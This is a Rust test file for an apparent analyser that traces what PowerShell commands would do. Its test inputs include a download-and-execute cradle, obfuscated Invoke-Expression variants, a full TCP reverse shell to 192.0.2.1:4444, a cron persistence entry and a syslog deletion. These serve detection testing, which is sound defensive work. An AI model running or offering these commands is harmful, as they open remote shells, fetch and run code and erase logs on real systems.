use data_encoding::BASE64;

use super::*;

fn encoded(text: &str) -> String {
    BASE64.encode(&text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>())
}

/// What PowerShell does with a text, its own start left out.
fn told(text: &str) -> Vec<String> {
    let path = Fixture::new().start(&["pwsh", "-NoProfile", "-Command", text], &[]).follow();
    assert!(!path.gaps.iter().any(|gap| gap.matters), "{:?}", path.gaps);
    lines(&path).into_iter().skip(1).collect()
}

#[test]
fn an_encoded_command_is_decoded_and_followed() {
    let text = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')";
    for option in ["-EncodedCommand", "-enc", "-e", "-EC"] {
        let path =
            Fixture::new().start(&["pwsh", "-nop", "-w", "hidden", option, &encoded(text)], &[]).follow();
        let got: Vec<String> = lines(&path).into_iter().skip(1).collect();
        let run = "run Invoke-Expression $(response) <- pwsh from http://192.0.2.1/a";
        assert_eq!(got, ["net 192.0.2.1 http://192.0.2.1/a", run], "{option}");
    }
}

#[test]
fn code_under_several_stages_is_read_as_what_it_is() {
    let program = "curl http://192.0.2.1/x";
    let reversed: String = program.chars().rev().collect();
    let letters: Vec<String> = program.bytes().map(|b| b.to_string()).collect();
    let texts = [
        format!(
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}')))",
            BASE64.encode(program.as_bytes())
        ),
        format!("$x = [char[]]({}) -join ''; & (gcm i*x) ; I`E`X $x", letters.join(",")),
        format!("('{}' -replace 'Q','') | iex", program.replace("url", "QurQl")),
        "$p = '{1}{0}' -f ' http://192.0.2.1/x','curl'; Invoke-Expression $p".to_owned(),
        format!("$r = '{reversed}'; iex ($r[-1..-23] -join '')"),
        format!("& ([scriptblock]::Create('{program}'))"),
        format!("powershell -e {}", encoded(&format!("iex '{program}'"))),
    ];
    for text in texts {
        let got = told(&text);
        assert!(got.iter().any(|line| line == "run curl http://192.0.2.1/x"), "{text}\n{got:?}");
    }
}

#[test]
fn commands_from_a_connection_are_told_with_the_connection() {
    let text = "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$s = $c.GetStream();\
        [byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;\
        $d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);\
        $r = (iex $d 2>&1 | Out-String );$s.Write($r,0,$r.Length)};$c.Close()";
    let got = told(text);
    assert!(got.contains(&"net 192.0.2.1:4444".to_owned()), "{got:?}");
    let run = "run Invoke-Expression $(response) <- /dev/tcp/192.0.2.1/4444 from /dev/tcp/192.0.2.1/4444";
    assert!(got.contains(&run.to_owned()), "{got:?}");
}

#[test]
fn downloads_files_and_programs_are_told() {
    let got = told(
        "$u = \"http://192.0.2.1/$('a')\"\nInvoke-WebRequest -UseBasicParsing -Uri $u -OutFile /tmp/a\n\
         Start-Process -FilePath /tmp/a -ArgumentList '-o','x' -NoNewWindow\n\
         Set-Content -Path /etc/cron.d/a -Value '* * * * * root /tmp/a'\nRemove-Item -Force /var/log/syslog",
    );
    let expected = [
        "net 192.0.2.1 http://192.0.2.1/a",
        "write /tmp/a = $(response)",
        "run /tmp/a -o x from http://192.0.2.1/a",
        "write /etc/cron.d/a = * * * * * root /tmp/a",
        "delete /var/log/syslog",
    ];
    for line in expected {
        assert!(got.iter().any(|g| g == line), "{line}\n{got:?}");
    }
}

#[test]
fn a_script_in_a_file_is_followed_and_comments_are_not() {
    let script = "#!/usr/bin/env pwsh\n# iex (iwr http://198.51.100.1/)\n<# curl http://198.51.100.2 #>\n\
        param([string]$Name = 'x')\nfunction Get-It { curl http://192.0.2.1/b }\n\
        if ($Name -eq 'y') { wget http://192.0.2.1/c }\nGet-It\nWrite-Host \"price `$5 for $Name\"\n";
    let path = Fixture::new().file("start.ps1", script, 0o755).start(&["/start.ps1"], &[]).follow();
    let got = lines(&path);
    assert!(got.iter().any(|l| l == "run curl http://192.0.2.1/b"), "{got:?}");
    assert!(got.iter().any(|l| l == "may run wget http://192.0.2.1/c"), "{got:?}");
    assert!(!got.iter().any(|l| l.contains("198.51.100")), "{got:?}");
}

#[test]
fn rubbish_and_nesting_end() {
    let mut texts: Vec<String> =
        ["(", "@(", "$(", "{", "[", "\"$(", "& (", "iex (", "!", ",", "-join ", "x | ", "$a.b("]
            .iter()
            .map(|open| open.repeat(20_000))
            .collect();
    texts.extend(
        ["\"", "'", "@'\n", "<#", "`", "$", "${", "$x = ", "foreach (", "function", "a::b", "[x]::", "\"$"]
            .map(str::to_owned),
    );
    texts.push("$f = 'iex $f'; iex $f".to_owned());
    texts.push("function f { f; f }; f".to_owned());
    texts.push("$x = 'aaaaaaaa'; foreach ($i in 1..64) { $x = $x + $x }; iex $x".to_owned());
    texts.push("1..4000 | % { 1..4000 | % { 1..4000 | % { $_ } } }".to_owned());
    for text in texts {
        let begun = std::time::Instant::now();
        Fixture::new().start(&["pwsh", "-c", &text], &[]).follow();
        assert!(
            begun.elapsed() < std::time::Duration::from_secs(20),
            "{:?}: {}",
            begun.elapsed(),
            &text[..text.len().min(60)]
        );
    }
}
